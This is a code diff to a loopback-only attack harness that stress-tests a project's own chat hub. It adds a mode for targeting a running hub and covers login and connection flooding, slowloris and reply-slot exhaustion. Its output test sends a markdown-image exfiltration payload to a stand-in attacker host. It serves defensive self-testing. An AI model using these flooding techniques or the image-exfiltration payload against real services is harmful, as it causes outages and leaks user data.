@@ -2,6 +2,8 @@
 
     python deploy/attacks.py                          # one worker, embedded broker
     python deploy/attacks.py --redis redis://127.0.0.1:6379/0
+    python deploy/attacks.py --url http://127.0.0.1:8000 --secret-file RUN_DIR/secret
+                                                      # a running hub, e.g. deploy/cluster.py
 
 Loopback only, each attack bounded in count; prints one line per attack. The hub runs with its
 default limits (only HUB_SECRET, HUB_LLM=echo and the port are set), as an operator would start it.
@@ -75,10 +77,14 @@ async def connections(session: aiohttp.ClientSession, url: str, token: str) -> s
     )
 
 
-async def replies(session: aiohttp.ClientSession, url: str) -> str:
+async def replies(session: aiohttp.ClientSession, url: str, secret: str) -> str:
+    from hub.auth import mint_token
+
     clients = []  # 20 guests from 20 addresses, each past the per-address login limit
     for i in range(20):
-        _status, token = await _login(session, url, f"Guest {i}", f"198.51.100.{i}")
+        status, token = await _login(session, url, f"Guest {i}", f"198.51.100.{i}")
+        if status != 200:  # behind nginx the address cannot be faked: the guest token as is
+            token = mint_token(secret, f"guest-attack{i}", f"Guest {i}", 3600, guest=True)
         _ok, ws = await _hello(session, url, token)
         clients.append(ws)
     for ws in clients:
@@ -127,8 +133,12 @@ async def output(session: aiohttp.ClientSession, url: str, token: str) -> str:
     await ws.send_json({"type": "ping", "ref": "alive"})  # type: ignore[attr-defined]
     alive = (await _until(ws, "pong")).get("ref") == "alive"
     leak = "![x](https://attacker.example/leak?q=secret)"
-    await ws.send_json({"type": "send", "text": leak, "ref": "img"})  # type: ignore[attr-defined]
-    done = await _until(ws, "done")
+    for attempt in range(5):  # the guests' replies may still hold the worker's reply slots
+        await ws.send_json({"type": "send", "text": leak, "ref": f"img{attempt}"})  # type: ignore[attr-defined]
+        done = await _until(ws, "done")
+        if done["type"] == "done":
+            break
+        await asyncio.sleep(float(str(done.get("retry_after", 1))))
     html = str(done.get("html", done))
     await ws.close()  # type: ignore[attr-defined]
     async with session.get(f"{url}/x%00") as resp:
@@ -177,7 +187,31 @@ def short_secret() -> str:
     return f"HUB_SECRET=x: exit {done.returncode}: {done.stderr.strip().splitlines()[-1][:90]}"
 
 
-async def run(broker: str) -> None:
+async def attack(url: str, port: int, secret: str) -> None:
+    """Every attack against the hub at ``url``; slowloris against ``port``."""
+    sys.path.insert(0, str(ROOT))
+    from hub.auth import mint_token
+
+    async with aiohttp.ClientSession(connector=aiohttp.TCPConnector(limit=0)) as session:
+        for _ in range(100):
+            try:
+                async with session.get(url + "/health") as resp:
+                    if resp.status == 200:
+                        break
+            except aiohttp.ClientError:
+                await asyncio.sleep(0.1)
+        token = mint_token(secret, "mallory", "Mallory", 3600)
+        print(await logins(session, url), flush=True)
+        print(await connections(session, url, token), flush=True)
+        print(await replies(session, url, secret), flush=True)
+        print(await rooms(session, url, mint_token(secret, "rooms", "Rooms", 3600)), flush=True)
+        print(await output(session, url, mint_token(secret, "out", "Out", 3600)), flush=True)
+    print(await slowloris(port), flush=True)
+    print(short_secret(), flush=True)
+
+
+async def run_own_hub(broker: str) -> None:
+    """Start one worker with default limits, attack it, stop it."""
     port = _free_port()
     env = {k: v for k, v in os.environ.items() if not k.startswith("HUB_")}
     env.update(HUB_SECRET=SECRET, HUB_LLM="echo", HUB_PORT=str(port), HUB_BROKER_URL=broker)
@@ -189,27 +223,8 @@ async def run(broker: str) -> None:
         stdout=subprocess.DEVNULL,
         stderr=subprocess.DEVNULL,
     )
-    url = f"http://127.0.0.1:{port}"
     try:
-        async with aiohttp.ClientSession(connector=aiohttp.TCPConnector(limit=0)) as session:
-            for _ in range(100):
-                try:
-                    async with session.get(url + "/health") as resp:
-                        if resp.status == 200:
-                            break
-                except aiohttp.ClientError:
-                    await asyncio.sleep(0.1)
-            sys.path.insert(0, str(ROOT))
-            from hub.auth import mint_token
-
-            token = mint_token(SECRET, "mallory", "Mallory", 3600)
-            print(await logins(session, url), flush=True)
-            print(await connections(session, url, token), flush=True)
-            print(await replies(session, url), flush=True)
-            print(await rooms(session, url, mint_token(SECRET, "rooms", "Rooms", 3600)), flush=True)
-            print(await output(session, url, mint_token(SECRET, "out", "Out", 3600)), flush=True)
-        print(await slowloris(port), flush=True)
-        print(short_secret(), flush=True)
+        await attack(f"http://127.0.0.1:{port}", port, SECRET)
     finally:
         hub.terminate()
         hub.wait(30)
@@ -218,7 +233,15 @@ async def run(broker: str) -> None:
 def main() -> None:
     parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
     parser.add_argument("--redis", default="memory://", help="broker URL (default memory://)")
-    asyncio.run(run(parser.parse_args().redis))
+    parser.add_argument("--url", help="attack this running hub instead of starting one")
+    parser.add_argument("--secret-file", help="its HUB_SECRET, to mint the attackers' tokens")
+    args = parser.parse_args()
+    if args.url:
+        secret = Path(args.secret_file).read_text().strip() if args.secret_file else SECRET
+        port = int(args.url.rsplit(":", 1)[1].split("/")[0])
+        asyncio.run(attack(args.url.rstrip("/"), port, secret))
+    else:
+        asyncio.run(run_own_hub(args.redis))
 
 
 if __name__ == "__main__":
